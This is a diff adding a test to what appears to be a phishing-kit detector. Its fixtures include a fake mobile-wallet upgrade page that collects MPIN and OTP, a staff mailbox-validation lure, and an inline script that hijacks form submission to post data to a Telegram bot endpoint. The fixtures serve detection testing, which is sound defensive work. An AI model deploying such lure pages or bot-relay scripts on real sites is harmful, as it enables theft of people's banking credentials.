@@ -332,6 +332,15 @@ describe('analysis: signal rules', () => {
       assert.ok(result.decidedBy?.includes('combo:lure-credentials') && result.decidedBy.includes('combo:exfiltrated-credentials'));
     });
 
+    it('credential fields posted to a chat bot are a kit even on a page that names its host; a contact form sent to the same bot is not', () => {
+      const bot = '<script>document.forms[0].onsubmit=function(){fetch("https://api.telegram.org/bot123:AAx/sendMessage",{method:"POST",body:JSON.stringify({chat_id:1,text:"x"})});return false}</script>';
+      const named = kit('https://pesopay-upgrade.example/upgrade/', `<title>PesoPay</title><h1>PesoPay</h1><form><input name="mobile" placeholder="Mobile number"><input type="password" name="mpin" placeholder="MPIN"><input name="otp" autocomplete="one-time-code"><button>Upgrade</button></form>${bot}<footer>© 2026 PesoPay</footer>`);
+      assert.ok(!has(named.signals, 'identity-not-own') && has(named.signals, 'chat-bot-relay'), JSON.stringify(named.signals.map((x) => x.id)));
+      assert.ok(named.result.decidedBy?.includes('combo:chat-bot-credentials'), JSON.stringify(named.result.decidedBy));
+      const contact = kit('https://www.kedai-bunga-mawar.example/hubungi', `<title>Hubungi kami | Kedai Bunga Mawar</title><h1>Kedai Bunga Mawar</h1><form><input name="nama" placeholder="Nama"><input name="telefon" placeholder="Telefon"><textarea name="mesej"></textarea><button>Hantar</button></form>${bot}<footer>© 2026 Kedai Bunga Mawar</footer>`);
+      assert.equal(contact.result.verdict, 'clean', JSON.stringify(contact.result.decidedBy));
+    });
+
     it('lures said to all staff: mailboxes to validate, accounts (plural) to be deactivated', () => {
       const staff = kit('https://forms.quick-survey-maker.example/it-desk/validate', '<h1>IT Helpdesk – Mailbox Validation</h1><p>All staff must validate their mailbox before Friday. Unvalidated accounts will be deactivated.</p><form><input name="email"><input type="password" name="pw"></form>');
       assert.ok(has(staff.signals, 'lure-text'), JSON.stringify(staff.signals.map((x) => x.id)));
